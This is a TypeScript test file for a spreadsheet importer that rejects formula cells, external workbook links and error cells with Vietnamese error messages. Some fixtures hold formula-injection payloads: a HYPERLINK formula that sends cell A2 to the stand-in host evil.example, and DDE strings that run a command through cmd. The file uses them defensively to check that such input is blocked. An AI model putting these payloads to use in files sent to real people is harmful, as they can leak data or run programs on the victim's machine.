import { strToU8 } from 'fflate';
import { oddWorkbook } from '../../../tests/fixtures/odd-workbooks.ts';
import {
  BIRTH,
  layerIs,
  NAMES,
  row,
  testSheetCases,
  text,
  type SheetCase,
} from '../../../tests/fixtures/sheet-cases.ts';

const cases: readonly SheetCase[] = [
  {
    name: 'a formula',
    file: row(['Tên thường gọi'], { formula: '1+1', value: '2' }),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô có công thức. Hãy chép ô, rồi dán lại dạng giá trị.',
    ],
  },
  {
    name: 'a formula that was never worked out',
    file: row(['Tên thường gọi'], { formula: 'HYPERLINK("http://evil.example/"&amp;A2)' }),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô có công thức. Hãy chép ô, rồi dán lại dạng giá trị.',
    ],
  },
  {
    name: 'a formula that looks into another workbook',
    file: row(['Phí, lệ phí'], { formula: "'[1]Bang gia'!B2", value: '10.000 đồng' }),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Phí, lệ phí: Ô có công thức. Hãy chép ô, rồi dán lại dạng giá trị.',
    ],
  },
  {
    name: 'a text that would be a formula',
    file: row(['Tên thường gọi'], '=HYPERLINK("http://evil.example","Bấm")'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô có công thức. Hãy chép ô, rồi dán lại dạng giá trị.',
    ],
  },
  {
    name: 'a command by DDE',
    file: text('Mã thủ tục;Tên thường gọi\n1.001193;"=cmd|\'/c calc\'!A0"\n'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô có công thức. Hãy chép ô, rồi dán lại dạng giá trị.',
    ],
  },
  {
    name: 'a command by DDE after a plus',
    file: text('Mã thủ tục;Tên thường gọi\n1.001193;"+cmd|\'/c calc\'!A0"\n'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô có công thức. Hãy chép ô, rồi dán lại dạng giá trị.',
    ],
  },
  {
    name: 'a link to another workbook beside the cells',
    file: () =>
      oddWorkbook([{ name: 'a', rows: [NAMES, [BIRTH, 'Khai sinh']] }], {
        'xl/externalLinks/externalLink1.xml': strToU8('<externalLink xmlns="a"/>'),
      }),
    told: [],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'a cell in error',
    file: row(['Tên thường gọi'], { error: '#REF!' }),
    told: ['lỗi: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô đang báo lỗi #REF!. Hãy gõ lại nội dung.'],
  },
];

testSheetCases(cases, { moreThan: 7 });
